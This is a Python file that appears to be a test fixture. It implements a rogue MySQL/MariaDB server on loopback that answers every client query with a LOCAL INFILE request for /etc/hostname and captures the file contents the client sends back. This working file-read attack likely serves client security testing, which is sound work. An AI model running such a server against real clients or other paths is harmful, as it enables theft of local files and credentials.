"""A server that speaks just enough of MySQL's protocol to let a client in, and then asks it for a file."""

from __future__ import annotations

import socket
import struct
from threading import Thread

WANTED = b"/etc/hostname"


class HostileServer:
    """Listens on loopback; `received` is what clients sent after they were asked for a file."""

    def __init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listener.getsockname()[1]
        self.received = b""
        self.asked = 0
        Thread(target=self._serve, daemon=True).start()

    def close(self) -> None:
        self._listener.close()

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self._listener.accept()
            except OSError:
                return
            with client:
                client.settimeout(5)
                try:
                    self._talk(client)
                except (OSError, struct.error):
                    continue

    def _talk(self, client: socket.socket) -> None:
        greeting = b"\x0a5.5.5-10.11.1-MariaDB\0" + struct.pack("<I", 1) + b"abcdefgh\0" + struct.pack("<H", 0xF7FF)
        greeting += (
            b"\x2d" + struct.pack("<HH", 2, 0x0081) + b"\x15" + b"\0" * 10 + b"ijklmnopqrst\0mysql_native_password\0"
        )
        _send(client, greeting, 0)
        _receive(client)
        _send(client, b"\x00\x00\x00\x02\x00\x00\x00", 2)
        while True:
            number, packet = _receive(client)
            if packet[:1] == b"\x03":  # a query, whatever it is: the answer is a demand for a file
                self.asked += 1
                _send(client, b"\xfb" + WANTED, number + 1)
            elif packet[:1] != b"\x01":
                self.received += packet


def _send(client: socket.socket, payload: bytes, number: int) -> None:
    client.sendall(struct.pack("<I", len(payload))[:3] + bytes([number]) + payload)


def _receive(client: socket.socket) -> tuple[int, bytes]:
    head = b""
    while len(head) < 4:
        piece = client.recv(4 - len(head))
        if not piece:
            raise OSError("closed")
        head += piece
    length, packet = int.from_bytes(head[:3], "little"), b""
    while len(packet) < length:
        packet += client.recv(length - len(packet)) or b"\0"
    return head[3], packet
